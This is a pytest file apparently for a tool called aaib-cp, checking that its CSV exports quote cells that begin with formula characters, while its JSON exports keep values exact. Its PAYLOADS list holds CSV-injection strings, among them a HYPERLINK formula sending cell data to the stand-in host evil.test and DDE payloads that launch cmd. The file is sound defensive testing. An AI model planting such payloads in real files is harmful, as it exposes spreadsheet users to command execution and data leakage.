"""CSV written by aaib-cp is safe to open in a spreadsheet; JSON stays exact."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from aaib_cp import Engine
from aaib_cp.cli import cli
from aaib_cp.demo import run_demo
from aaib_cp.learning.service import Learning
from aaib_cp.workflow.csv_cells import FORMULA_STARTS, csv_text, neutralise
from tests.test_learning import _add_entry, _quiet

#: Payloads from OWASP's CSV-injection page and the issue, one per dangerous first character.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.test")',
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_csv(path: Path) -> list[list[str]]:
    """A CSV file's cells, its line ends as written (a bare carriage return is data)."""
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


class TestNeutralise:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_payload_gets_a_quote(self, payload):
        """Each known payload is written with one single quote before it."""
        assert "'" + payload == neutralise(payload)

    def test_numbers_and_plain_text_are_exact(self):
        """Numbers (even negative), None and ordinary text are left alone."""
        assert [-3, 2.5, None, "Home visit", "", "'quoted"] == [
            neutralise(v) for v in (-3, 2.5, None, "Home visit", "", "'quoted")
        ]

    @given(st.text())
    def test_no_cell_starts_a_formula(self, text):
        """Whatever the text, the written cell does not begin with a formula character."""
        written = cells(csv_text(["what"], [{"what": text}]))[1:]
        cell = written[0][0] if written else ""
        assert cell[:1] not in FORMULA_STARTS

    @given(st.text())
    def test_only_the_quote_is_added(self, text):
        """The cell reads back as the text, or the text with one quote before it, nothing else."""
        written = cells(csv_text(["what"], [{"what": text}]))
        expected = "'" + text if text[:1] in FORMULA_STARTS else text
        assert [["what"], [expected]] == written

    def test_a_carriage_return_cannot_start_a_row(self):
        """A cell with a bare carriage return stays one cell (it would start a formula row)."""
        text = csv_text(["what", "n"], [{"what": "visit\r=cmd|' /C calc'!A0", "n": 1}])
        assert [["what", "n"], ["visit\r=cmd|' /C calc'!A0", "1"]] == cells(text)

    @given(st.lists(st.one_of(st.text(), st.integers()), min_size=1, max_size=5))
    def test_every_column(self, values):
        """Every column of every row is neutralised, not only the text columns we expect."""
        names = [f"c{i}" for i in range(len(values))]
        written = cells(csv_text(names, [dict(zip(names, values, strict=True))]))[1]
        assert [str(neutralise(v)) for v in values] == written


@pytest.fixture
def poisoned(engine: Engine) -> str:
    """The closed demo case, with chronology entries that are spreadsheet formulas."""
    case = run_demo(engine, say=_quiet)
    for payload in PAYLOADS:
        _add_entry(engine, case, payload)
    return case


class TestPublicExport:
    def test_csv_is_neutralised_and_json_exact(self, engine, poisoned, tmp_path):
        """chronology.csv carries each payload quoted; chronology.json carries it exactly."""
        Learning(engine).export_public(tmp_path / "out")
        rows = read_csv(tmp_path / "out" / "chronology.csv")
        header, body = rows[0], rows[1:]
        what = [dict(zip(header, r, strict=True))["what"] for r in body][-len(PAYLOADS) :]
        assert ["'" + p for p in PAYLOADS] == what
        exact = json.loads((tmp_path / "out" / "chronology.json").read_text(encoding="utf-8"))
        assert PAYLOADS == [r["what"] for r in exact][-len(PAYLOADS) :]

    def test_no_csv_cell_in_any_file_starts_a_formula(self, engine, poisoned, tmp_path):
        """Across every CSV of the export, no cell begins with a formula character."""
        Learning(engine).export_public(tmp_path / "out")
        for path in sorted((tmp_path / "out").glob("*.csv")):
            for row in read_csv(path):
                assert [] == [c for c in row if c[:1] in FORMULA_STARTS], path.name

    def test_cli_and_subprocess(self, tmp_path):
        """aaib export --public, in this process and in a real one, quotes a formula."""
        db = tmp_path / "demo.db"
        assert 0 == CliRunner().invoke(cli, ["demo", "--db", str(db)]).exit_code
        from aaib_cp import Store

        with Store.open(db) as store:
            _add_entry(Engine(store), "CP-2026-0001", PAYLOADS[1])
        result = CliRunner().invoke(cli, ["--db", str(db), "export", "--public", "-o",
                                          str(tmp_path / "a")])  # fmt: skip
        assert 0 == result.exit_code, result.output
        done = subprocess.run(
            [sys.executable, "-m", "aaib_cp", "--db", str(db), "export", "--public", "-o",
             str(tmp_path / "b")],
            capture_output=True, text=True, check=True,
        )  # fmt: skip
        assert "" == done.stderr
        for folder in ("a", "b"):
            rows = read_csv(tmp_path / folder / "chronology.csv")
            assert "'" + PAYLOADS[1] in [row[-2] for row in rows]
            exact = json.loads((tmp_path / folder / "chronology.json").read_text())
            assert PAYLOADS[1] == exact[-1]["what"]
